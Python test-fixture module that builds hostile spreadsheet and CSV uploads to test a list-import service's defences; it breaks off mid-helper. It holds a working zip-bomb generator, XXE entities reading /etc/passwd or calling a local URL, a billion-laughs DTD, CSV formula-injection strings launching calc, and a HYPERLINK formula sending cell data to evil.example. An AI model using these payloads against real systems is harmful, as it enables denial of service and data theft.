"""A corpus of hostile and malformed list files, built in code (no binary files in the repository).

Each :class:`HostileFile` says what the import must do with it: refuse it as invalid (422) with the place named,
refuse it as too large (413), or import it safely (the right answer for some oddities: shuffled columns, formulas
with saved results, ``=HYPERLINK(...)`` typed as text). Files are built lazily, so a test run builds each once.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from openpyxl import Workbook

from app.schemas.validators import make_credit_code
from app.services.imports import ListKind
from tests.app.test_imports_support import DEMAND_HEADERS, SUPPLY_HEADERS, demand_row, supply_row

INVALID = "invalid"  # 422 import_invalid
TOO_LARGE = "too_large"  # 413 (payload_too_large, too_many_rows or workbook_too_large)
IMPORTED = "imported"  # imported, and checked by ``check``

SHEET = {ListKind.SUPPLY: "供给清单", ListKind.DEMAND: "需求清单"}
HEADERS = {ListKind.SUPPLY: SUPPLY_HEADERS, ListKind.DEMAND: DEMAND_HEADERS}
GIB = 1 << 30


@dataclass(frozen=True)
class Expect:
    outcome: str
    # For INVALID: at least one error at each (row, column letter); column None means "the row, any column";
    # row None means a file-level problem. ``reason`` must appear in one error's reason.
    places: tuple[tuple[int | None, str | None], ...] = ()
    reason: str | None = None
    code: str | None = None  # the 413 error code
    rows: int | None = None  # IMPORTED: rows imported
    stored: dict[str, str] = field(default_factory=dict)  # IMPORTED: product_name → a stored text to find


@dataclass(frozen=True)
class HostileFile:
    name: str
    kind: ListKind
    filename: str
    build: Callable[[], bytes]
    expect: Expect
    category: str
    settings: dict[str, Any] = field(default_factory=dict)  # overrides, e.g. a small row cap

    @property
    def content(self) -> bytes:
        return _built(self)


_CACHE: dict[tuple[str, str], bytes] = {}


def _built(item: HostileFile) -> bytes:
    key = (item.kind.value, item.name)
    if key not in _CACHE:
        _CACHE[key] = item.build()
    return _CACHE[key]


# ── building blocks ──────────────────────────────────────────────────────────────────────────────────────────
def good_row(kind: ListKind, n: int = 0, **overrides: Any) -> dict[str, Any]:
    if kind is ListKind.SUPPLY:
        row = supply_row(产品名称=f"新能源汽车电机壳体{n}" if n else "新能源汽车电机壳体", 规格型号=f"YX-MH-{220 + n}")
    else:
        row = demand_row(产品名称=f"IGBT功率模块{n}" if n else "IGBT功率模块", 规格型号=f"FF{450 + n}R12ME4")
    row.update(overrides)
    return row


def letter(kind: ListKind, header: str) -> str:
    """The column letter of a header in the standard layout."""
    index = HEADERS[kind].index(header)
    return chr(ord("A") + index)


def workbook_bytes(kind: ListKind, rows: Sequence[dict[str, Any] | Sequence[Any]], *,
                   headers: Sequence[str] | None = None, sheet: str | None = None,
                   edit: Callable[[Workbook], None] | None = None) -> bytes:
    headers = list(headers or HEADERS[kind])
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = sheet or SHEET[kind]
    worksheet.append(headers)
    for row in rows:
        worksheet.append([row.get(h) for h in headers] if isinstance(row, dict) else list(row))
    if edit is not None:
        edit(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_text(kind: ListKind, rows: Sequence[dict[str, Any]], *, headers: Sequence[str] | None = None) -> str:
    headers = list(headers or HEADERS[kind])
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for row in rows:
        writer.writerow(["" if row.get(h) is None else row.get(h) for h in headers])
    return buffer.getvalue()


def rewrite_part(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one zip part rewritten (a surgical edit of the XML openpyxl wrote)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            archive.writestr(info.filename, change(data) if info.filename == part else data)
    return out.getvalue()


SHEET_XML = "xl/worksheets/sheet1.xml"


def _add_rows_xml(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)


def _replace_cell_xml(ref: str, cell_xml: str) -> Callable[[bytes], bytes]:
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.DOTALL)

    def change(xml: bytes) -> bytes:
        new, count = pattern.subn(cell_xml.encode(), xml, count=1)
        assert count == 1, ref
        return new

    return change


def _with_dtd(root: bytes, declaration: bytes, *, reference: bytes | None = None,
              target: bytes | None = None) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<" + root, declaration + b"<" + root, 1)
        if reference is not None and target is not None:
            xml = xml.replace(target, reference, 1)
        return xml

    return change


def deflate_bomb(*, part: str, inflated_bytes: int, declared_bytes: int | None = None,
                 prefix: bytes = b"", suffix: bytes = b"", base: bytes) -> bytes:
    """A workbook whose ``part`` inflates to ``inflated_bytes`` of padding: a real bomb, built in a blink by
    repeating one fully flushed deflate block (the same input after a full flush compresses to the same bytes).
    ``declared_bytes`` lets the zip lie about the size (the real stream is still ``inflated_bytes`` long)."""
    block = b" " * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    unit = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats = inflated_bytes // len(block)
    tail = compressor.compress(suffix) + compressor.flush(zlib.Z_FINISH)
    stream = head + unit * repeats + tail
    size = len(prefix) + repeats * len(block) + len(suffix)
    crc = _repeated_crc(prefix, block, repeats, suffix)
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != part:
                archive.writestr(info.filename, source.read(info.filename))
    # Append the bomb part by hand: local header, raw deflate stream, then rebuild the central directory.
    return _append_raw_member(out.getvalue(), part, stream, crc=crc, size=declared_bytes or size)


@cache
def _repeated_crc(prefix: bytes, block: bytes, repeats: int, suffix: bytes) -> int:
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(suffix, crc)


def _append_raw_member(archive_bytes: bytes, name: str, stream: bytes, *, crc: int, size: int) -> bytes:
    """Rewrite the archive by hand with one extra member whose raw deflate stream and header fields we choose."""
    import struct

    source = zipfile.ZipFile(io.BytesIO(archive_bytes))
    out = io.BytesIO()
    central = []
    for info in source.infolist():
        data = source.read(info.filename)
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        packed = compressor.compress(data) + compressor.flush()
        central.append(_write_member(out, info.filename, packed, zlib.crc32(data), len(data)))
    central.append(_write_member(out, name, stream, crc, size))
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _write_member(out: io.BytesIO, name: str, packed: bytes, crc: int, size: int) -> bytes:
    import struct

    encoded = name.encode()
    offset = out.tell()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc & 0xFFFFFFFF, len(packed),
                          size & 0xFFFFFFFF, len(encoded), 0))
    out.write(encoded)
    out.write(packed)
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc & 0xFFFFFFFF, len(packed),
                       size & 0xFFFFFFFF, len(encoded), 0, 0, 0, 0, 0, offset) + encoded


# ── the corpus ───────────────────────────────────────────────────────────────────────────────────────────────
def build_corpus() -> list[HostileFile]:
    files: list[HostileFile] = []
    for kind in ListKind:
        files.extend(_corpus_for(kind))
    return files


def _corpus_for(kind: ListKind) -> list[HostileFile]:  # noqa: C901 - a catalogue, read top to bottom
    items: list[HostileFile] = []
    name_col = letter(kind, "产品名称")
    code_col = letter(kind, "统一社会信用代码")
    category = "产品类别" if kind is ListKind.SUPPLY else "需求类别"
    category_col = letter(kind, category)
    status_col = letter(kind, "状态")
    sheet = SHEET[kind]

    def add(name: str, category_: str, build: Callable[[], bytes], expect: Expect, *,
            filename: str = "list.xlsx", **settings: Any) -> None:
        items.append(HostileFile(name=name, kind=kind, filename=filename, build=build, expect=expect,
                                 category=category_, settings=settings))

    def wb(rows: Sequence[dict[str, Any] | Sequence[Any]], **kwargs: Any) -> Callable[[], bytes]:
        return lambda: workbook_bytes(kind, rows, **kwargs)

    def invalid(*places: tuple[int | None, str | None], reason: str | None = None) -> Expect:
        return Expect(INVALID, places=places, reason=reason)

    # -- wrong types in cells --------------------------------------------------------------------------------
    add("credit_code_as_float", "wrong types", wb([good_row(kind, 统一社会信用代码=9.15001e17)]),
        invalid((2, code_col)))
    add("category_as_number", "wrong types", wb([good_row(kind, **{category: 12345})]), invalid((2, category_col)))
    add("category_as_bool", "wrong types", wb([good_row(kind, **{category: True})]), invalid((2, category_col)))
    add("status_unknown_word", "wrong types", wb([good_row(kind, 状态="也许")]), invalid((2, status_col)))
    add("status_as_date", "wrong types", wb([good_row(kind, 状态=_date())]), invalid((2, status_col)))
    add("product_name_blank_spaces", "wrong types", wb([good_row(kind, 产品名称="\u3000 \u00a0")]),
        invalid((2, name_col)))
    add("enterprise_name_missing", "wrong types", wb([good_row(kind, 企业名称=None)]), invalid((2, "A")))
    add("bad_chain", "wrong types", wb([good_row(kind, 所属产业链="火星采矿")]),
        invalid((2, letter(kind, "所属产业链"))))
    if kind is ListKind.SUPPLY:
        add("capacity_words", "wrong types", wb([good_row(kind, 产能规模="很大")]), invalid((2, letter(kind, "产能规模"))))
        add("capacity_negative", "wrong types", wb([good_row(kind, 产能规模="-50万件/年")]),
            invalid((2, letter(kind, "产能规模"))))
        add("phone_letters", "wrong types", wb([good_row(kind, 联系电话="call me")]), invalid((2, letter(kind, "联系电话"))))
        add("qualification_unknown", "wrong types", wb([good_row(kind, 企业资质="宇宙第一(2023)")]),
            invalid((2, letter(kind, "企业资质"))))
        add("size_class_number", "wrong types", wb([good_row(kind, 企业规模=3)]), invalid((2, letter(kind, "企业规模"))))
    else:
        add("quantity_words", "wrong types", wb([good_row(kind, 年需求量="很多")]), invalid((2, letter(kind, "年需求量"))))
        add("quantity_negative", "wrong types", wb([good_row(kind, 年需求量=-5)]), invalid((2, letter(kind, "年需求量"))))
        add("quantity_as_date", "wrong types", wb([good_row(kind, 年需求量=_date())]), invalid((2, None)))
        add("valid_until_words", "wrong types", wb([good_row(kind, 有效期至="明年")]),
            invalid((2, letter(kind, "有效期至"))))
        add("valid_until_impossible", "wrong types", wb([good_row(kind, 有效期至="2026-02-30")]),
            invalid((2, letter(kind, "有效期至"))))
        add("price_words", "wrong types", wb([good_row(kind, 目标价格="便宜点")]), invalid((2, letter(kind, "目标价格"))))
        add("price_reversed", "wrong types", wb([good_row(kind, 目标价格="120-80元/件")]),
            invalid((2, letter(kind, "目标价格"))))
        add("confidential_maybe", "wrong types", wb([good_row(kind, 是否保密="看情况")]),
            invalid((2, letter(kind, "是否保密"))))

    # -- bad credit codes --------------------------------------------------------------------------------------
    good = make_credit_code("91500112MA5UA")
    wrong_check = good[:17] + ("0" if good[17] != "0" else "1")
    for label, code in [("check_digit", wrong_check), ("17_chars", good[:17]), ("19_chars", good + "1"),
                        ("forbidden_letters", good[:8] + "IOZSV" + good[13:]), ("punctuation", good[:17] + "!"),
                        ("only_spaces", "   "), ("chinese", "统一社会信用代码未知")]:
        add(f"credit_code_{label}", "bad credit codes", wb([good_row(kind, 统一社会信用代码=code)]),
            invalid((2, code_col)))
    add("credit_code_two_names", "bad credit codes",
        wb([good_row(kind, 1), good_row(kind, 2, 企业名称="另一家重庆公司有限公司")]), invalid((3, "A")))
    add("credit_code_second_row_bad", "bad credit codes", wb([good_row(kind, 1), good_row(kind, 2, 统一社会信用代码=wrong_check)]),
        invalid((3, code_col)))

    # -- columns ----------------------------------------------------------------------------------------------
    for header in ("企业名称", "统一社会信用代码", category, "产品名称"):
        headers = [h for h in HEADERS[kind] if h != header]
        add(f"missing_column_{header}", "columns", wb([good_row(kind)], headers=headers),
            invalid((1, None), reason=header))
    dup_headers = [*HEADERS[kind], "产品名称"]
    add("duplicated_column_same_name", "columns", wb([[*[good_row(kind)[h] for h in HEADERS[kind]], "重复"]],
                                                      headers=dup_headers),
        invalid((1, chr(ord("A") + len(HEADERS[kind]))), reason="列重复"))
    add("duplicated_column_synonym", "columns",
        wb([[*[good_row(kind)[h] for h in HEADERS[kind]], "X-1"]], headers=[*HEADERS[kind], "型号"]),
        invalid((1, chr(ord("A") + len(HEADERS[kind]))), reason="列重复"))
    shuffled = list(reversed(HEADERS[kind]))
    add("shuffled_columns", "columns", wb([good_row(kind, 1), good_row(kind, 2)], headers=shuffled),
        Expect(IMPORTED, rows=2))
    add("no_header_row", "columns", wb([["a", "b", "c"], [1, 2, 3]], headers=["甲", "乙", "丙"]),
        invalid((None, None), reason="未找到表头行"))

    def header_too_low(book: Workbook) -> None:
        book.active.insert_rows(1, amount=16)
        book.active["A1"] = "标题"

    add("header_below_search_rows", "columns", wb([good_row(kind)], edit=header_too_low),
        invalid((None, None), reason="未找到表头行"))
    add("other_list_sheet", "columns",
        (lambda: workbook_bytes(ListKind.DEMAND, [good_row(ListKind.DEMAND)]))
        if kind is ListKind.SUPPLY else (lambda: workbook_bytes(ListKind.SUPPLY, [good_row(ListKind.SUPPLY)])),
        invalid((None, None)))

    # -- merged cells -----------------------------------------------------------------------------------------
    def merge_enterprise(book: Workbook) -> None:
        book.active.merge_cells("A2:A4")
        book.active.merge_cells(f"{code_col}2:{code_col}4")

    rows3 = [good_row(kind, n) for n in (1, 2, 3)]
    # The association layout: the enterprise's name and code merged down over its rows are filled down.
    add("merged_enterprise_cells", "merged cells", wb(rows3, edit=merge_enterprise), Expect(IMPORTED, rows=3))

    def merge_header(book: Workbook) -> None:  # the merge swallows the required category header
        book.active.merge_cells(f"{chr(ord(category_col) - 1)}1:{category_col}1")

    add("merged_header_cells", "merged cells", wb([good_row(kind)], edit=merge_header),
        invalid((1, None), reason=category))

    # -- formulas ---------------------------------------------------------------------------------------------
    def formula_no_cache(book: Workbook) -> None:
        book.active[f"{name_col}2"] = '=CONCAT("电机","壳体")'

    add("formula_without_cached_value", "formulas", wb([good_row(kind)], edit=formula_no_cache),
        invalid((2, name_col), reason="公式"))
    add("formula_with_cached_value", "formulas",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="str"><f>CONCAT("缓存","产品")</f><v>缓存产品</v></c>')),
        Expect(IMPORTED, rows=1, stored={"缓存产品": "缓存产品"}))
    add("formula_error_value", "formulas",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="e"><f>1/0</f><v>#DIV/0!</v></c>')),
        invalid((2, name_col), reason="#DIV/0!"))
    add("formula_ref_error_in_code", "formulas",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{code_col}2", f'<c r="{code_col}2" t="e"><f>Sheet9!A1</f><v>#REF!</v></c>')),
        invalid((2, code_col), reason="#REF!"))
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A2,"点击查看")'
    add("formula_injection_text_xlsx", "formula injection",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="inlineStr"><is><t>{_xml_escape(hyperlink)}</t></is></c>')),
        Expect(IMPORTED, rows=1, stored={hyperlink: hyperlink}))
    for label, text in [("equals", hyperlink), ("plus", "+cmd|' /C calc'!A0"), ("minus", "-2+3+cmd|' /C calc'!A0"),
                        ("at", "@SUM(1+1)*cmd|' /C calc'!A0")]:
        add(f"formula_injection_csv_{label}", "formula injection",
            (lambda text=text: csv_text(kind, [good_row(kind, 产品名称=text)]).encode("utf-8")),
            Expect(IMPORTED, rows=1, stored={text: text}), filename="list.csv")

    # -- hidden sheets ----------------------------------------------------------------------------------------
    def hide_data(book: Workbook) -> None:
        book.create_sheet("说明")
        book.active.sheet_state = "hidden"

    add("data_sheet_hidden", "hidden sheets", wb([good_row(kind)], edit=hide_data), invalid((None, None), reason="隐藏"))

    def very_hidden(book: Workbook) -> None:
        book.create_sheet("说明")
        book.active.sheet_state = "veryHidden"

    add("data_sheet_very_hidden", "hidden sheets", wb([good_row(kind)], edit=very_hidden),
        invalid((None, None), reason="隐藏"))

    def hidden_junk_first(book: Workbook) -> None:
        junk = book.create_sheet("旧数据", 0)
        junk.append(HEADERS[kind])
        junk.append([good_row(kind, 99, 统一社会信用代码="坏代码")[h] for h in HEADERS[kind]])
        junk.sheet_state = "hidden"

    add("hidden_junk_sheet_before_data", "hidden sheets", wb([good_row(kind)], sheet="Sheet1", edit=hidden_junk_first),
        Expect(IMPORTED, rows=1))

    def hidden_rows(book: Workbook) -> None:
        book.active.row_dimensions[3].hidden = True

    add("hidden_row_with_bad_code", "hidden sheets",
        wb([good_row(kind, 1), good_row(kind, 2, 统一社会信用代码=wrong_check)], edit=hidden_rows),
        invalid((3, code_col)))

    # -- empty rows and size ----------------------------------------------------------------------------------
    empty_rows = b"".join(b'<row r="%d" spans="1:16" ht="15" customHeight="1"/>' % r for r in range(3, 100_003))
    add("100k_empty_rows_after_data", "empty rows",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _add_rows_xml(empty_rows)),
        Expect(IMPORTED, rows=1))
    add("100k_empty_rows_then_data", "empty rows",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _add_rows_xml(
            empty_rows + _row_xml(kind, 100_003, good_row(kind, 7, 统一社会信用代码=wrong_check)))),
        invalid((100_003, code_col)))
    add("100k_empty_csv_lines", "empty rows",
        lambda: (csv_text(kind, [good_row(kind)]) + "\r\n" * 100_000 + ",,,\r\n" * 1000).encode("utf-8"),
        Expect(IMPORTED, rows=1), filename="list.csv")
    add("row_number_beyond_excel", "empty rows",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _add_rows_xml(
            b'<row r="50000000"><c r="A50000000" t="inlineStr"><is><t>x</t></is></c></row>')),
        invalid((1_048_577, None), reason="最大行数"))
    add("too_many_rows", "size", wb([good_row(kind, n) for n in range(1, 61)]),
        Expect(TOO_LARGE, code="too_many_rows"), import_max_rows=50)
    add("too_many_bytes", "size", wb([good_row(kind)]), Expect(TOO_LARGE, code="payload_too_large"),
        import_max_bytes=2048)

    # -- zip bombs --------------------------------------------------------------------------------------------
    base = workbook_bytes(kind, [good_row(kind)])
    open_sheet, close_sheet = _split_sheet(base)
    add("zip_bomb_sheet_2gib", "zip bomb",
        lambda: deflate_bomb(part=SHEET_XML, inflated_bytes=2 * GIB, prefix=open_sheet, suffix=close_sheet, base=base),
        Expect(TOO_LARGE, code="workbook_too_large"))
    add("zip_bomb_shared_strings_1gib", "zip bomb",
        lambda: deflate_bomb(part="xl/sharedStrings.xml", inflated_bytes=GIB,
                             prefix=b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                             suffix=b"</sst>", base=base),
        Expect(TOO_LARGE, code="workbook_too_large"))
    add("zip_bomb_ratio_100mib", "zip bomb",
        lambda: deflate_bomb(part=SHEET_XML, inflated_bytes=100 << 20, prefix=open_sheet + b"<!--",
                             suffix=b"-->" + close_sheet, base=base),
        Expect(TOO_LARGE, code="workbook_too_large"))
    add("zip_bomb_lying_sizes", "zip bomb",
        lambda: deflate_bomb(part=SHEET_XML, inflated_bytes=GIB, declared_bytes=len(open_sheet) + 10,
                             prefix=open_sheet, suffix=close_sheet, base=base),
        invalid((None, None), reason="损坏"))
    add("zip_bomb_in_docprops", "zip bomb",
        lambda: deflate_bomb(part="docProps/core.xml", inflated_bytes=GIB, base=base),
        Expect(TOO_LARGE, code="workbook_too_large"))

    # -- wrong extension and wrong content --------------------------------------------------------------------
    add("csv_named_xlsx", "wrong extension", lambda: csv_text(kind, [good_row(kind)]).encode("utf-8"),
        invalid((None, None), reason=".xlsx"), filename="list.xlsx")
    add("xlsx_named_csv", "wrong extension", wb([good_row(kind)]), Expect(IMPORTED, rows=1), filename="list.csv")
    add("xlsx_without_extension", "wrong extension", wb([good_row(kind)]), Expect(IMPORTED, rows=1), filename="list")
    add("pdf_named_xlsx", "wrong extension", lambda: _pdf(), invalid((None, None), reason="PDF"), filename="list.xlsx")
    add("pdf_named_csv", "wrong extension", lambda: _pdf(), invalid((None, None), reason="PDF"), filename="list.csv")
    add("png_named_xlsx", "wrong extension", lambda: _png(), invalid((None, None), reason="PNG"), filename="list.xlsx")
    add("png_named_csv", "wrong extension", lambda: _png(), invalid((None, None), reason="PNG"), filename="list.csv")
    add("jpeg_named_csv", "wrong extension", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 4,
        invalid((None, None), reason="JPEG"), filename="list.csv")
    add("xls_ole_named_xlsx", "wrong extension", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
        invalid((None, None), reason=".xls"), filename="list.xlsx")
    add("docx_named_xlsx", "wrong extension", lambda: _docx(), invalid((None, None)), filename="list.xlsx")
    add("truncated_xlsx", "wrong extension", lambda: base[: len(base) // 2], invalid((None, None)))
    add("zip_of_garbage", "wrong extension", lambda: _zip({"hello.txt": b"hello"}), invalid((None, None)))

    # -- encodings --------------------------------------------------------------------------------------------
    csv_doc = csv_text(kind, [good_row(kind, 1), good_row(kind, 2)])
    add("gbk_valid", "encodings", lambda: csv_doc.encode("gbk"), Expect(IMPORTED, rows=2), filename="list.csv")
    add("gbk_truncated_mid_character", "encodings", lambda: csv_doc.encode("gbk").rstrip(b"\r\n")[:-1],
        invalid((None, None), reason="编码"), filename="list.csv")
    lines = csv_doc.splitlines(keepends=True)
    add("mixed_utf8_then_gbk", "encodings",
        lambda: "".join(lines[:2]).encode("utf-8") + "".join(lines[2:]).encode("gbk"),
        invalid((3, None), reason="混用"), filename="list.csv")
    add("utf16_le_bom", "encodings", lambda: csv_doc.encode("utf-16"), Expect(IMPORTED, rows=2), filename="list.csv")
    add("utf16_le_no_bom", "encodings", lambda: csv_doc.encode("utf-16-le"), Expect(IMPORTED, rows=2), filename="list.csv")
    add("utf16_be_no_bom", "encodings", lambda: csv_doc.encode("utf-16-be"), Expect(IMPORTED, rows=2), filename="list.csv")
    add("utf16_truncated_odd", "encodings", lambda: csv_doc.encode("utf-16")[:-1],
        invalid((None, None)), filename="list.csv")
    add("latin1_garbage", "encodings", lambda: bytes(range(0x80, 0x100)) * 40, invalid((None, None)),
        filename="list.csv")
    add("utf8_bom_valid", "encodings", lambda: b"\xef\xbb\xbf" + csv_doc.encode("utf-8"), Expect(IMPORTED, rows=2),
        filename="list.csv")

    # -- empty and degenerate ---------------------------------------------------------------------------------
    add("empty_file", "empty", lambda: b"", invalid((None, None), reason="为空"), filename="list.csv")
    add("empty_file_xlsx_name", "empty", lambda: b"", invalid((None, None), reason="为空"))
    add("whitespace_only", "empty", lambda: b" \r\n\t\r\n", invalid((None, None), reason="为空"), filename="list.csv")
    # A header without rows is a harmless no-op: nothing written, a warning says so.
    add("header_only_csv", "empty", lambda: csv_text(kind, []).encode("utf-8"), Expect(IMPORTED, rows=0),
        filename="list.csv")
    add("header_only_xlsx", "empty", wb([]), Expect(IMPORTED, rows=0))
    add("empty_workbook", "empty", lambda: _save(Workbook()), invalid((None, None), reason="未找到表头行"))

    # -- huge cells and rows ----------------------------------------------------------------------------------
    add("10mib_single_cell_csv", "huge cells",
        lambda: csv_text(kind, [good_row(kind, 产品名称=_noise(10 << 20, ascii_only=True))]).encode("utf-8"),
        invalid((2, None)), filename="list.csv")
    add("10mib_single_cell_xlsx", "huge cells",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="inlineStr"><is><t>{_noise(10 << 20 // 3)}</t></is></c>')),
        invalid((2, name_col)))
    add("32k_cell_description", "huge cells", wb([good_row(kind, **{_long_text_header(kind): "长" * 32_000})]),
        invalid((2, letter(kind, _long_text_header(kind)))))
    add("very_long_row_xfd", "huge cells",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind, n) for n in range(1, 201)]), SHEET_XML,
                             lambda xml: re.sub(rb'(<row r="(\d+)"[^>]*>)(.*?)</row>',
                                                lambda m: m[1] + m[3] + b'<c r="XFD' + m[2] + b'"><v>1</v></c></row>',
                                                xml, flags=re.DOTALL)),
        Expect(IMPORTED, rows=200))
    add("100k_columns_csv_line", "huge cells",
        lambda: (csv_text(kind, [good_row(kind)]).rstrip("\r\n") + "," * 100_000 + "尾巴\r\n").encode("utf-8"),
        Expect(IMPORTED, rows=1), filename="list.csv")
    add("many_part_numbers", "huge cells", wb([good_row(kind, 规格型号="；".join(f"P-{n}" for n in range(500)))]),
        invalid((2, letter(kind, "规格型号"))))

    # -- control characters -----------------------------------------------------------------------------------
    for label, char in [("escape", "\x1b[31m"), ("bell", "\x07"), ("backspace", "\x08"), ("c1", "\x85"),
                        ("del", "\x7f")]:
        add(f"control_{label}_csv", "control characters",
            (lambda char=char: csv_text(kind, [good_row(kind, 产品名称=f"电机{char}壳体")]).encode("utf-8")),
            invalid((2, name_col), reason="控制字符"), filename="list.csv")
    add("control_nul_csv", "control characters",
        lambda: csv_text(kind, [good_row(kind, 产品名称="电机\x00壳体")]).encode("utf-8"),
        invalid((None, None), reason="NUL"), filename="list.csv")
    for label, text in [("c1_reference", "电机&#x85;壳体"), ("del_reference", "电机&#127;壳体"),
                        ("c1_raw", "电机\x9b壳体")]:
        add(f"control_{label}_in_xlsx", "control characters",
            (lambda text=text: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
                f"{name_col}2", f'<c r="{name_col}2" t="inlineStr"><is><t>{text}</t></is></c>'))),
            invalid((2, name_col), reason="控制字符"))
    # openpyxl keeps OOXML's _xHHHH_ escape as literal text: stored as typed, harmless.
    add("control_ooxml_escape_in_xlsx", "control characters",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="inlineStr"><is><t>电机_x001B_壳体</t></is></c>')),
        Expect(IMPORTED, rows=1, stored={"电机_x001B_壳体": "电机_x001B_壳体"}))
    add("control_c0_reference_in_xlsx", "control characters",
        lambda: rewrite_part(workbook_bytes(kind, [good_row(kind)]), SHEET_XML, _replace_cell_xml(
            f"{name_col}2", f'<c r="{name_col}2" t="inlineStr"><is><t>电机&#x1;壳体</t></is></c>')),
        invalid((2, None), reason="损坏"))

    # -- XML entities -----------------------------------------------------------------------------------------
    xxe_file = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    target = good_row(kind)["产品名称"].encode()
    add("xxe_external_file_in_sheet", "xml entities",
        lambda: rewrite_part(base, SHEET_XML, _with_dtd(b"worksheet", xxe_file, reference=b"&xxe;", target=target)),
        invalid((None, None), reason="DTD"))
    add("xxe_external_url_in_workbook", "xml entities",
        lambda: rewrite_part(base, "xl/workbook.xml", _with_dtd(
            b"workbook", b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/leak">]>')),
        invalid((None, None), reason="DTD"))
    add("xxe_parameter_entity_in_content_types", "xml entities",
        lambda: rewrite_part(base, "[Content_Types].xml", _with_dtd(
            b"Types", b'<!DOCTYPE Types [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>')),
        invalid((None, None), reason="DTD"))
    laughs = b'<!DOCTYPE worksheet [<!ENTITY a "hahahahaha">' + b"".join(
        b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), (b"&" + chr(97 + i).encode() + b";") * 10) for i in range(9)
    ) + b"]>"
    add("billion_laughs_in_sheet", "xml entities",
        lambda: rewrite_part(base, SHEET_XML, _with_dtd(b"worksheet", laughs, reference=b"&j;", target=target)),
        invalid((None, None), reason="DTD"))
    add("internal_entity_in_rels", "xml entities",
        lambda: rewrite_part(base, "_rels/.rels", _with_dtd(b"Relationships", b'<!DOCTYPE r [<!ENTITY e "x">]>')),
        invalid((None, None), reason="DTD"))
    add("dtd_after_padding", "xml entities",
        lambda: rewrite_part(base, SHEET_XML, _with_dtd(b"worksheet", b"\n" * 70_000 + xxe_file,
                                                        reference=b"&xxe;", target=target)),
        invalid((2, None), reason="损坏"))  # found by the parser, which never resolves the entity

    # -- duplicates -------------------------------------------------------------------------------------------
    add("duplicate_rows", "duplicates", wb([good_row(kind, 1), good_row(kind, 1)]), invalid((3, name_col)))
    add("duplicate_rows_fullwidth", "duplicates",
        wb([good_row(kind, 1), good_row(kind, 1, 产品名称=_fullwidth(good_row(kind, 1)["产品名称"]))]),
        invalid((3, name_col)))
    assert all(f.kind is kind for f in items)
    assert len({f.name for f in items}) == len(items), "names must be unique per list"
    del sheet
    return items


# ── helpers for the catalogue ────────────────────────────────────────────────────────────────────────────────
def _date():
    import datetime as dt

    return dt.datetime(2026, 5, 1)


def _noise(length: int, *, ascii_only: bool = False) -> str:
    """Incompressible text (a cell of one repeated character would be refused as a zip bomb, rightly)."""
    import random

    rng = random.Random(length)
    if ascii_only:
        return "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=length))
    return "".join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(length))


def _long_text_header(kind: ListKind) -> str:
    return "产品描述" if kind is ListKind.SUPPLY else "技术要求"


def _xml_escape(text: str) -> str:
